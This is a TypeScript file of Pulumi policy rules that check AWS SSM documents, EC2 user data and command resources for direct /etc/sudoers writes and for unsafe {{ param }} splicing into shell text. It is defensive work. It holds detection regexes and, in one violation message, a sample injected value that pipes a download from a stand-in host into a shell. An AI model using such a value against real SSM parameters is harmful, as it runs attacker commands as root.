/**
 * What runs as root on the hosts: SSM documents, associations, EC2 user data and command
 * resources. Two rules:
 *  - no-sudoers-append: never write /etc/sudoers directly (one bad line locks every admin out
 *    of sudo); drop-ins in /etc/sudoers.d/ must be checked with `visudo -c` first.
 *  - ssm-document-injection: never splice `{{ param }}` into shell text unless the parameter's
 *    allowedPattern is strict (see `strictPatternProblem`).
 */
import type { ResourceValidationArgs, ResourceValidationPolicy } from "@pulumi/policy";
import { DOCUMENT_INJECTION, DOCUMENT_INJECTION_DEFAULTS, NO_SUDOERS_APPEND, NO_SUDOERS_APPEND_DEFAULTS, readConfig } from "./config";
import { asList, decodeUserData, describe, isObject, parseDocument, pathString, str, unwrap, walkStrings } from "./util";

/** A piece of shell text and where it came from, for messages. */
export interface Script {
    where: string;
    text: string;
}

/** Every string of a parsed structure; arrays of strings (runCommand lines) joined into one script. */
function scriptsOf(value: unknown, prefix: string): Script[] {
    const out: Script[] = [];
    const visit = (v: unknown, path: (string | number)[]): void => {
        if (Array.isArray(v) && v.length > 0 && v.every((e) => typeof e === "string")) {
            out.push({ where: `${prefix}${pathString(path)}`, text: (v as string[]).join("\n") });
            return;
        }
        if (Array.isArray(v)) v.forEach((e, i) => visit(e, [...path, i]));
        else if (isObject(v)) for (const k of Object.keys(v)) visit(v[k], [...path, k]);
        else if (typeof v === "string") walkStrings(v, (_p, text) => out.push({ where: `${prefix}${pathString(path)}`, text }));
    };
    visit(value, []);
    return out;
}

/** The shell text a resource would run on hosts, whatever its type ([] for types that run none). */
export function scriptsOfResource(type: string, rawProps: unknown): Script[] {
    const props = unwrap(rawProps) as Record<string, unknown>;
    if (!isObject(props)) return [];
    switch (type) {
        case "aws:ssm/document:Document": {
            const content = str(props.content);
            if (content === undefined) return [];
            const doc = parseDocument(content, str(props.documentFormat));
            return doc ? scriptsOf(doc, "content.") : [{ where: "content", text: content }];
        }
        case "aws:ssm/association:Association":
            return scriptsOf(props.parameters, "parameters.");
        case "aws:ssm/maintenanceWindowTask:MaintenanceWindowTask":
            return scriptsOf(props.taskInvocationParameters, "taskInvocationParameters.");
        case "aws:ec2/instance:Instance":
            return [
                ...decodeUserData(props.userData, false).map((text) => ({ where: "userData", text })),
                ...decodeUserData(props.userDataBase64, true).map((text) => ({ where: "userDataBase64", text })),
            ];
        case "aws:ec2/launchTemplate:LaunchTemplate":
            return decodeUserData(props.userData, true).map((text) => ({ where: "userData", text }));
        case "aws:ec2/spotInstanceRequest:SpotInstanceRequest":
            return decodeUserData(props.userData, false).map((text) => ({ where: "userData", text }));
        case "command:remote:Command":
        case "command:local:Command":
            return ["create", "update", "delete"].flatMap((k) => (str(props[k]) ? [{ where: k, text: str(props[k])! }] : []));
        default:
            return [];
    }
}

function escapeRe(s: string): string {
    return s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

/** The file operand: optionally quoted, and not a longer path (`/etc/sudoers.d/x`, `/etc/sudoers.bak`). */
function fileRe(file: string): string {
    return `["']?${escapeRe(file)}(?![\\w./-])["']?`;
}

/** Shell commands that write `file`: redirections, tee, in-place editors, cp/mv/install/dd, open(..., "a"). */
function writersOf(file: string): RegExp[] {
    const f = fileRe(file);
    const arg = "[^|;&\\n]*?";
    return [
        new RegExp(`&?>{1,2}\\|?\\s*${f}`),
        new RegExp(`\\btee\\b${arg}\\s${f}`),
        new RegExp(`\\b(?:sed|perl)\\b${arg}\\s(?:-[a-zA-Z]*i\\S*|--in-place\\S*)${arg}\\s${f}`),
        new RegExp(`\\b(?:cp|mv|install|ln|rsync)\\b${arg}\\s${f}\\s*(?:$|[;&|)\\n])`, "m"),
        new RegExp(`\\bdd\\b${arg}\\bof=${f}`),
        new RegExp(`open\\(\\s*["']${escapeRe(file)}["']\\s*,\\s*["'][aw+]`),
    ];
}

/** The same for anything under /etc/sudoers.d/. */
const SUDOERS_D_WRITERS: RegExp[] = (() => {
    const f = `["']?/etc/sudoers\\.d/`;
    const arg = "[^|;&\\n]*?";
    return [
        new RegExp(`&?>{1,2}\\|?\\s*${f}`),
        new RegExp(`\\btee\\b${arg}\\s${f}`),
        new RegExp(`\\b(?:sed|perl)\\b${arg}\\s(?:-[a-zA-Z]*i\\S*|--in-place\\S*)${arg}\\s${f}`),
        new RegExp(`\\b(?:cp|mv|install|ln|rsync)\\b${arg}\\s${f}\\S*\\s*(?:$|[;&|)\\n])`, "m"),
    ];
})();

const VISUDO_CHECK = /\bvisudo\b[^\n;|&]*\s(?:-[a-zA-Z]*c[a-zA-Z]*|--check)\b/;

/** The line of `text` a match sits on, trimmed for a message. */
function lineAt(text: string, index: number): string {
    const start = text.lastIndexOf("\n", index) + 1;
    const end = text.indexOf("\n", index);
    const line = text.slice(start, end < 0 ? undefined : end).trim();
    return line.length > 100 ? `${line.slice(0, 97)}...` : line;
}

/** Problems with how a script touches sudoers: one message fragment per offending line. */
export function sudoersProblems(script: string, cfg = NO_SUDOERS_APPEND_DEFAULTS): string[] {
    const out: string[] = [];
    for (const file of cfg.protectedFiles) {
        for (const re of writersOf(file)) {
            const m = re.exec(script);
            if (m) {
                out.push(`writes ${file} directly (\`${lineAt(script, m.index)}\`)`);
                break;
            }
        }
    }
    if (cfg.requireVisudoForSudoersD && !VISUDO_CHECK.test(script)) {
        for (const re of SUDOERS_D_WRITERS) {
            const m = re.exec(script);
            if (m) {
                out.push(`installs a /etc/sudoers.d/ file without checking it with \`visudo -cf\` (\`${lineAt(script, m.index)}\`)`);
                break;
            }
        }
    }
    return out;
}

export const noSudoersAppend: ResourceValidationPolicy = {
    name: NO_SUDOERS_APPEND.name,
    description: "Checks whether SSM documents, associations, EC2 user data or commands write /etc/sudoers directly (or install a sudoers.d drop-in without a visudo check).",
    enforcementLevel: "mandatory",
    configSchema: NO_SUDOERS_APPEND.schema,
    validateResource: (args: ResourceValidationArgs, reportViolation) => {
        const cfg = readConfig(args, NO_SUDOERS_APPEND);
        const seen = new Set<string>();
        for (const s of scriptsOfResource(args.type, args.props)) {
            for (const p of sudoersProblems(s.text, cfg)) {
                const msg =
                    `${describe(args)} ${p} in \`${s.where}\`: a single bad line in /etc/sudoers disables sudo for every admin, and appends pile up on each run. ` +
                    `Write a drop-in /etc/sudoers.d/<name> (mode 0440) through a temp file checked with \`visudo -cf\`, then rename it into place.`;
                if (!seen.has(msg)) reportViolation(msg);
                seen.add(msg);
            }
        }
    },
};

// ---------------------------------------------------------------------------------------------
// ssm-document-injection

function printable(c: string): string {
    return c === "\n" ? "\\n" : c === "\r" ? "\\r" : c;
}

const DIGITS = "0123456789";
const WORD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_";
const SPACE = " \t\n\r\f\v";

/**
 * Why `pattern` is not a strict allowedPattern, or undefined when it is. Strict means: anchored
 * (`^` first, an unescaped `$` last, no top-level `|` that would escape the anchors), and the
 * characters it can match (literals, escapes, ranges and classes; `.`, `\S`, `\W`, `\D` and
 * negated classes match nearly anything) include none of `forbidden`. A value that passes such a
 * pattern cannot end a quoted string, start a command, expand a variable or break a line.
 */
export function strictPatternProblem(pattern: string | undefined, forbidden: string): string | undefined {
    if (pattern === undefined || pattern === "") return "it has no allowedPattern";
    const endsWithDollar = pattern.endsWith("$") && (pattern.length - 1 - pattern.replace(/\\*\$$/, "").length) % 2 === 0;
    if (!pattern.startsWith("^") || !endsWithDollar) return `its allowedPattern ${JSON.stringify(pattern)} is not anchored with ^...$`;
    const body = pattern.slice(1, -1);
    const admitted = new Set<string>();
    let any = false;
    let depth = 0;
    const addAll = (chars: string) => {
        for (const c of chars) admitted.add(c);
    };
    const escapeClass = (c: string): string | "ANY" => {
        switch (c) {
            case "d": return DIGITS;
            case "w": return WORD;
            case "s": return SPACE;
            case "D": case "W": case "S": return "ANY";
            case "n": return "\n";
            case "r": return "\r";
            case "t": return "\t";
            case "b": case "B": case "A": case "z": case "Z": return "";
            default: return c;
        }
    };
    for (let i = 0; i < body.length; i++) {
        const c = body[i];
        if (c === "\\") {
            const e = body[++i] ?? "\\";
            if (e === "x" && /^[0-9a-fA-F]{2}/.test(body.slice(i + 1))) {
                admitted.add(String.fromCharCode(parseInt(body.slice(i + 1, i + 3), 16)));
                i += 2;
                continue;
            }
            if (e === "u" && /^[0-9a-fA-F]{4}/.test(body.slice(i + 1))) {
                admitted.add(String.fromCharCode(parseInt(body.slice(i + 1, i + 5), 16)));
                i += 4;
                continue;
            }
            const cls = escapeClass(e);
            if (cls === "ANY") any = true;
            else addAll(cls);
        } else if (c === "[") {
            let j = i + 1;
            const negated = body[j] === "^";
            if (negated) j++;
            const members = new Set<string>();
            let classAny = false;
            let first = true;
            let prev: string | undefined;
            while (j < body.length && (body[j] !== "]" || first)) {
                first = false;
                let ch = body[j];
                if (ch === "\\") {
                    const cls = escapeClass(body[++j] ?? "\\");
                    j++;
                    if (cls === "ANY") classAny = true;
                    else if (cls.length === 1) {
                        members.add(cls);
                        prev = cls;
                    } else {
                        for (const x of cls) members.add(x);
                        prev = undefined;
                    }
                    continue;
                }
                if (ch === "-" && prev !== undefined && j + 1 < body.length && body[j + 1] !== "]") {
                    let hi = body[j + 1];
                    j += 2;
                    if (hi === "\\") {
                        hi = escapeClass(body[j] ?? "\\") as string;
                        j++;
                    }
                    for (let code = prev.charCodeAt(0); code <= hi.charCodeAt(0); code++) members.add(String.fromCharCode(code));
                    prev = undefined;
                    continue;
                }
                members.add(ch);
                prev = ch;
                j++;
            }
            if (j >= body.length) return `its allowedPattern ${JSON.stringify(pattern)} has an unterminated character class`;
            if (negated || classAny) {
                // A negated class admits every character it does not list.
                for (const f of forbidden) if (!members.has(f) || classAny) admitted.add(f);
            } else {
                for (const m of members) admitted.add(m);
            }
            i = j;
        } else if (c === ".") {
            any = true;
        } else if (c === "(") {
            depth++;
            if (body[i + 1] === "?") {
                // (?:  (?=  (?!  (?<=  (?<!  (?<name>
                const m = /^\?(?:[:=!]|<[=!]|<[A-Za-z_]\w*>)/.exec(body.slice(i + 1));
                if (m) i += m[0].length;
            }
        } else if (c === ")") {
            depth--;
        } else if (c === "|") {
            if (depth === 0) return `its allowedPattern ${JSON.stringify(pattern)} has a top-level | that escapes the ^...$ anchors`;
        } else if (c === "{" && /^\{\d+(,\d*)?\}/.test(body.slice(i))) {
            i += /^\{\d+(,\d*)?\}/.exec(body.slice(i))![0].length - 1;
        } else if (c === "*" || c === "+" || c === "?" || c === "^" || c === "$") {
            // quantifiers and anchors admit no characters themselves
        } else {
            admitted.add(c);
        }
    }
    if (any) return `its allowedPattern ${JSON.stringify(pattern)} matches any character (., \\S, \\W or \\D)`;
    const bad = [...forbidden].filter((f) => admitted.has(f));
    if (bad.length > 0) return `its allowedPattern ${JSON.stringify(pattern)} admits ${bad.map((b) => JSON.stringify(printable(b))).join(" ")}`;
    return undefined;
}

/** `{{ name }}` references in a text. */
function references(text: string): string[] {
    const out: string[] = [];
    const re = /\{\{\s*([^{}\s]+)\s*\}\}/g;
    let m: RegExpExecArray | null;
    while ((m = re.exec(text)) !== null) out.push(m[1]);
    return out;
}

interface ShellStep {
    where: string;
    text: string;
}

/** The shell text of a Command document (schema 1.2 runtimeConfig, 2.2 mainSteps) or an Automation runbook's aws:runCommand steps. */
function shellStepsOf(doc: Record<string, unknown>, cfg: typeof DOCUMENT_INJECTION_DEFAULTS): ShellStep[] {
    const out: ShellStep[] = [];
    const lines = (v: unknown): string =>
        asList(v)
            .filter((x): x is string => typeof x === "string")
            .join("\n");
    for (const [i, step] of asList(doc.mainSteps).entries()) {
        if (!isObject(step)) continue;
        const inputs = isObject(step.inputs) ? step.inputs : {};
        const name = typeof step.name === "string" ? step.name : `#${i}`;
        if (typeof step.action === "string" && cfg.shellActions.includes(step.action)) {
            out.push({ where: `step "${name}"`, text: lines(inputs.runCommand) });
        }
    }
    if (isObject(doc.runtimeConfig)) {
        for (const [action, plugin] of Object.entries(doc.runtimeConfig)) {
            if (!cfg.shellActions.includes(action) || !isObject(plugin)) continue;
            for (const [i, p] of asList(plugin.properties).entries()) {
                if (isObject(p)) out.push({ where: `${action} properties[${i}]`, text: lines(p.runCommand) });
            }
        }
    }
    for (const [i, step] of asList(doc.steps ?? (doc.schemaVersion === "0.3" ? doc.mainSteps : undefined)).entries()) {
        if (!isObject(step) || step.action !== "aws:runCommand" || !isObject(step.inputs)) continue;
        const docName = step.inputs.DocumentName;
        const params = step.inputs.Parameters;
        if (typeof docName === "string" && cfg.shellDocuments.includes(docName) && isObject(params)) {
            const name = typeof step.name === "string" ? step.name : `#${i}`;
            out.push({ where: `step "${name}"`, text: lines(params.commands) });
        }
    }
    return out;
}

/** Injection problems of one document's content: message fragments. */
export function documentInjectionProblems(doc: Record<string, unknown>, cfg = DOCUMENT_INJECTION_DEFAULTS): string[] {
    const params = isObject(doc.parameters) ? doc.parameters : {};
    const out: string[] = [];
    const seen = new Set<string>();
    for (const step of shellStepsOf(doc, cfg)) {
        for (const ref of references(step.text)) {
            const key = `${step.where}|${ref}`;
            if (seen.has(key)) continue;
            seen.add(key);
            if (/^(ssm|ssm-secure|resolve):/.test(ref)) {
                out.push(
                    `${step.where} splices the Parameter Store value {{ ${ref} }} into shell text: whoever can write that parameter runs commands as root. ` +
                        `Pass it as a document parameter with interpolationType "ENV_VAR" and a strict allowedPattern, or read it in the script with \`aws ssm get-parameter\``,
                );
                continue;
            }
            const def = params[ref];
            if (!isObject(def)) continue; // automation variables ({{ global:... }}, step outputs) and undeclared names
            const problem = strictPatternProblem(typeof def.allowedPattern === "string" ? def.allowedPattern : undefined, cfg.forbiddenCharacters);
            if (problem === undefined) continue;
            const envVar = def.interpolationType === "ENV_VAR";
            out.push(
                `${step.where} splices {{ ${ref} }} into shell text and ${problem}` +
                    (envVar ? ` (interpolationType "ENV_VAR" does not help while the script still says {{ ${ref} }})` : "") +
                    `: a value such as \`"; curl evil | sh #\` would run as root. ` +
                    `Declare "${ref}" with interpolationType "ENV_VAR" and use "$SSM_${ref}" (quoted) in the script instead of {{ ${ref} }}, ` +
                    `and give it an anchored allowedPattern that cannot match shell metacharacters`,
            );
        }
    }
    return out;
}

export const ssmDocumentInjection: ResourceValidationPolicy = {
    name: DOCUMENT_INJECTION.name,
    description: "Checks whether SSM Command documents (and associations running shell documents) splice {{ param }} into shell text without a strict allowedPattern.",
    enforcementLevel: "mandatory",
    configSchema: DOCUMENT_INJECTION.schema,
    validateResource: (args: ResourceValidationArgs, reportViolation) => {
        const cfg = readConfig(args, DOCUMENT_INJECTION);
        const props = unwrap(args.props) as Record<string, unknown>;
        if (!isObject(props)) return;
        if (args.type === "aws:ssm/document:Document") {
            const content = str(props.content);
            if (content === undefined) return;
            const doc = parseDocument(content, str(props.documentFormat));
            if (!doc) return;
            for (const p of documentInjectionProblems(doc, cfg)) reportViolation(`${describe(args)}: ${p}.`);
        } else if (args.type === "aws:ssm/association:Association") {
            const docName = str(props.name);
            if (docName === undefined || !cfg.shellDocuments.includes(docName) || !isObject(props.parameters)) return;
            const commands = props.parameters.commands;
            const text = Array.isArray(commands) ? commands.filter((c) => typeof c === "string").join("\n") : str(commands) ?? "";
            for (const ref of new Set(references(text))) {
                reportViolation(
                    `${describe(args)} runs ${docName} with {{ ${ref} }} spliced into its commands: whatever that value holds runs as root. ` +
                        `Use a Command document whose parameters have interpolationType "ENV_VAR" and a strict allowedPattern.`,
                );
            }
        }
    },
};
